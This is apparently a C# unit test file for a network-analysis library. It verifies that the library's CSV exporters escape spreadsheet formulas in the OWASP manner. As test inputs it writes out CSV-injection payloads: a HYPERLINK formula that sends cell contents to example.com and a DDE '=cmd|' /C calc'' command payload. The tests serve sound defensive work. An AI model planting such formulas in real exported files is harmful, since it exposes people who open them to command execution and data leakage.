using System.Text;
using CapitalNetwork.Measures;
using CapitalNetwork.Tests.Export.Gexf;

namespace CapitalNetwork.Tests.Csv;

/// <summary>
/// Every public CSV writer neutralises formulas by default and writes cells unchanged with
/// <see cref="CsvCells.Raw"/>. Inputs are the hostile catalogue's formula files (TestData/hostile/make_hostile.py) and the
/// OWASP payloads; expected cells are the input text with OWASP's leading apostrophe (owasp.org/www-community/attacks/CSV_Injection),
/// numbers unchanged; what a spreadsheet would run is judged by <see cref="SpreadsheetCells"/>, independent of the writers.
/// </summary>
public sealed class SpreadsheetSafeWritersTests : IDisposable
{
    private static readonly string Hostile = Path.Combine(AppContext.BaseDirectory, "TestData", "hostile");
    private readonly string _dir = Directory.CreateTempSubdirectory("capnet-csv-safe-").FullName;

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    private static string Text(Action<TextWriter> write)
    {
        var w = new StringWriter();
        write(w);
        return w.ToString();
    }

    private static string[] Column(string csv, string name)
    {
        var rows = SpreadsheetCells.Parse(csv);
        var i = Array.IndexOf(rows[0], name);
        return [.. rows.Skip(1).Select(r => r[i])];
    }

    [Fact]
    public void Diagnostics_csv_escapes_the_raw_text_of_rejected_rows()
    {
        // formula-cells.csv lines 3-8: the offending field of each rejected row (line 8's tab is trimmed by the reader, as
        // control characters at the ends of a field are; see the control-characters case). The file's unitless 'capital'
        // header over amounts of 100, 50 and 5 also gets the capital_unit_unclear warning (raw text: the header 'capital'),
        // left out here.
        var all = CityNetwork.FromFilings(Path.Combine(Hostile, "formula-cells.csv")).Report;
        var report = all with { Diagnostics = [.. all.Diagnostics.Where(d => d.Code != DiagnosticCode.CapitalUnitUnclear)] };
        string[] raw = ["=HYPERLINK(\"http://example.com/?d=\"&A1,\"x\")", "+1", "-2+3", "-3.5", "@SUM(A1)", "=1"];
        var safe = Text(w => report.WriteDiagnosticsCsv(w));
        Assert.Equal(["'" + raw[0], "'+1", "'-2+3", "-3.5", "'@SUM(A1)", "'=1"], Column(safe, "raw"));
        Assert.Contains(",negative amount,-3.5,\n", safe); // the number is written bare (then the empty cell column of issue 17)
        Assert.Empty(SpreadsheetCells.Formulas(safe));
        var rawText = Text(w => report.WriteDiagnosticsCsv(w, CsvCells.Raw));
        Assert.Equal(raw, Column(rawText, "raw"));
        Assert.Equal(5, SpreadsheetCells.Formulas(rawText).Count);

        // The path overload writes the same text as UTF-8 with a byte order mark (so Excel and WPS read the Chinese text).
        var path = Path.Combine(_dir, "diagnostics.csv");
        report.WriteDiagnosticsCsv(path);
        Assert.Equal([.. Encoding.UTF8.Preamble, .. new UTF8Encoding(false).GetBytes(safe)], File.ReadAllBytes(path));
        report.WriteDiagnosticsCsv(path, CsvCells.Raw);
        Assert.Equal([.. Encoding.UTF8.Preamble, .. new UTF8Encoding(false).GetBytes(rawText)], File.ReadAllBytes(path));
    }

    [Fact]
    public void Gephi_tables_escape_ids_and_labels_in_both_files_alike()
    {
        // edgelist-formulas.csv: ids =cmd…, @SUM(A1), +1, -2+3, -3.5, b (nodes in first-seen order).
        var net = EdgeListReader.Read(Path.Combine(Hostile, "edgelist-formulas.csv"));
        string[] ids = ["=cmd|' /C calc'!A0", "@SUM(A1)", "+1", "-2+3", "-3.5", "b"];
        string[] escaped = ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'+1", "'-2+3", "-3.5", "b"];
        var nodes = Text(w => GephiCsvWriter.WriteNodes(net, w));
        var edges = Text(w => GephiCsvWriter.WriteEdges(net, w));
        Assert.Equal(escaped, Column(nodes, "Id"));
        Assert.Equal(escaped, Column(nodes, "Label"));
        Assert.Equal(["'=cmd|' /C calc'!A0", "'+1", "-3.5"], Column(edges, "Source"));
        Assert.Equal(["'@SUM(A1)", "'-2+3", "b"], Column(edges, "Target"));
        Assert.Empty(SpreadsheetCells.Formulas(nodes + edges));
        Assert.Equal(ids, Column(Text(w => GephiCsvWriter.WriteNodes(net, w, cells: CsvCells.Raw)), "Id"));

        // The directory writer passes the choice on.
        var (n, e) = GephiCsvWriter.Write(net, _dir);
        Assert.Equal(nodes, File.ReadAllText(n));
        Assert.Equal(edges, File.ReadAllText(e));
        (n, _) = GephiCsvWriter.Write(net, _dir, cells: CsvCells.Raw);
        Assert.Equal(ids, Column(File.ReadAllText(n), "Id"));
    }

    [Fact]
    public void Dynamic_gephi_tables_escape_too()
    {
        // A one-year series whose only flow runs between two formula ids.
        var b = new FlowNetworkBuilder();
        b.AddNode("=1+1", "@me");
        b.AddNode("-x", "-x");
        b.AddFlow(0, 1, 1, 1, 1);
        var series = new NetworkSeries(b.Build(), new SortedDictionary<int, FlowNetwork> { [2020] = b.Build() });
        var (nodes, edges) = (new StringWriter(), new StringWriter());
        GephiCsvWriter.WriteDynamic(series, nodes, edges);
        Assert.Equal(["'=1+1", "'-x"], Column(nodes.ToString(), "Id"));
        Assert.Equal(["'@me", "'-x"], Column(nodes.ToString(), "Label"));
        Assert.Empty(SpreadsheetCells.Formulas(nodes.ToString() + edges));
        var (n, _) = GephiCsvWriter.WriteDynamic(series, _dir, cells: CsvCells.Raw);
        Assert.Equal(["=1+1", "-x"], Column(File.ReadAllText(n), "Id"));
    }

    [Fact]
    public void Comparison_table_escapes_group_names()
    {
        // Groups by label: "=cmd…" holds 3.5; "@SUM(A1)" holds 1 + 2 = 3 (values are non-negative here).
        var table = Flows.Compare([3.5, 1, 2], Grouping.FromLabels(["=cmd|' /C calc'!A0", "@SUM(A1)", "@SUM(A1)"]));
        var safe = table.ToCsv();
        Assert.Equal(["'=cmd|' /C calc'!A0", "'@SUM(A1)"], Column(safe, "group"));
        Assert.Equal(["'=cmd|' /C calc'!A0", "'@SUM(A1)"], Column(safe, "label"));
        Assert.Equal(["3.5", "3"], Column(safe, "total"));
        Assert.Empty(SpreadsheetCells.Formulas(safe));
        Assert.Equal(["=cmd|' /C calc'!A0", "@SUM(A1)"], Column(table.ToCsv(CsvCells.Raw), "group"));
    }

    [Fact]
    public void Trend_table_escapes_custom_column_names_and_keeps_negative_values()
    {
        var table = Flows.Trend(GexfTestData.HandSeries(), [("=1+1", _ => -0.25), ("a,b", _ => 1)]);
        var safe = table.ToCsv();
        Assert.StartsWith("year,\"'=1+1\",\"a,b\"\n", safe); // a comma in a name is quoted (the hand-made CSV of old did not)
        Assert.Equal(Enumerable.Repeat("-0.25", table.Years.Length), Column(safe, "'=1+1"));
        Assert.Empty(SpreadsheetCells.Formulas(safe));
        Assert.StartsWith("year,=1+1,\"a,b\"\n", table.ToCsv(CsvCells.Raw));
    }

    [Theory]
    [InlineData(20231231UL)]
    [InlineData(7UL)]
    public void Synthetic_filings_have_no_formula_so_safe_and_raw_bytes_are_equal(ulong seed)
    {
        // The generator writes ids, Chinese names and places, dates, credit codes and positive amounts: no cell starts
        // with a formula character, so the default changes nothing and the file reads back as generated.
        var options = SyntheticFilingsOptions.Default with { Rows = 20_000, Seed = seed };
        var safe = Text(w => SyntheticFilings.Write(w, options));
        Assert.Equal(Text(w => SyntheticFilings.Write(w, options, CsvCells.Raw)), safe);
        Assert.DoesNotContain(SyntheticFilings.Rows(options).SelectMany(r => r), c => c.Length > 0 && "=+-@\t\r".Contains(c[0]));
        var path = Path.Combine(_dir, "synthetic.csv");
        SyntheticFilings.Write(path, options);
        Assert.Equal(new UTF8Encoding(false).GetBytes(safe), File.ReadAllBytes(path));
    }
}
